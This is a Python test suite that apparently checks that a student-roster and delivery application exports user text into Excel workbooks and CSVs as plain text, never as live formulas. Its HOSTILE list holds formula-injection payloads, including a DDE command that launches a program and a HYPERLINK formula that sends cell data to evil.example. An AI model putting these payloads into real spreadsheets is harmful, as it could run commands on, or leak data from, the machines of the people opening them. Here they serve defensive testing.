"""Issue 13: user text never becomes a live formula in a workbook or a CSV a clerk opens."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from app.models import Student
from app.services.common.values import csv_safe
from app.services.delivery.cards import save_cards
from app.services.delivery.fees import save_fees
from app.services.delivery.source import load_delivery
from app.services.delivery.summary import save_summary
from app.services.proofing.forms import ErrataLine, errata_workbook, feedback_classes, feedback_workbook
from app.services.proofing.service import ProofingService
from app.services.roster.service import RosterService
from tests.delivery_data import roster

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
]


def _formulas(data: bytes) -> list[str]:
    """Every <f> element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [n for n in zf.namelist() if n.startswith("xl/worksheets/") and b"<f>" in zf.read(n)]


def _texts(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    return {
        str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None
    }


@pytest.fixture
def hostile_station(db, station, importer, tmp_path):
    roster(importer, station, tmp_path, len(HOSTILE))
    with db.sessions.begin() as s:  # as a crafted bundle or a careless edit would put them in
        for student, name in zip(s.scalars(select(Student).order_by(Student.shot_no)), HOSTILE):
            student.name, student.major, student.class_name = name, name, name
    return station


def test_delivery_workbooks_hold_hostile_text_as_text(db, hostile_station, tmp_path):
    delivery = load_delivery(db.sessions, hostile_station.id)
    for save, name in ((save_summary, "s.xlsx"), (save_fees, "f.xlsx"), (save_cards, "c.xlsx")):
        save(delivery, tmp_path / name)
        data = (tmp_path / name).read_bytes()
        assert _formulas(data) == [], name
    texts = _texts((tmp_path / "s.xlsx").read_bytes())
    assert set(HOSTILE) <= texts  # shown exactly as typed


def test_proofing_forms_hold_hostile_text_as_text(db, hostile_station):
    rows = ProofingService(db.sessions).rows(hostile_station.id)
    data = feedback_workbook(feedback_classes(rows), "站")
    assert _formulas(data) == [] and set(HOSTILE) <= _texts(data)
    lines = [ErrataLine(1, HOSTILE[0], "2023", "110101199003077777", HOSTILE[1], "照片非本人", HOSTILE[2])]
    data = errata_workbook(lines, HOSTILE[3], "校", "10459")
    assert _formulas(data) == []


def test_roster_csv_neutralises_formula_cells(db, hostile_station, tmp_path):
    path = tmp_path / "r.csv"
    RosterService(db.sessions).export_csv(path, hostile_station.id)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    names = [r[rows[0].index("姓名")] for r in rows[1:]]
    assert names == ["'" + n for n in HOSTILE]
    ids = [r[rows[0].index("身份证号码")] for r in rows[1:]]
    assert all(i[0].isdigit() for i in ids)  # IDs (some ending in X) are untouched


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-x", "'-x"),
        ("41010519900101123X", "41010519900101123X"),
        ("张三", "张三"),
        (12, 12),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=30))
def test_no_csv_cell_starts_a_formula(text):
    out = csv_safe(text)
    assert not str(out).startswith(("=", "@", "\t", "\r")) or False
    if str(out).startswith(("+", "-")):
        float(out)  # only plain numbers keep a leading sign
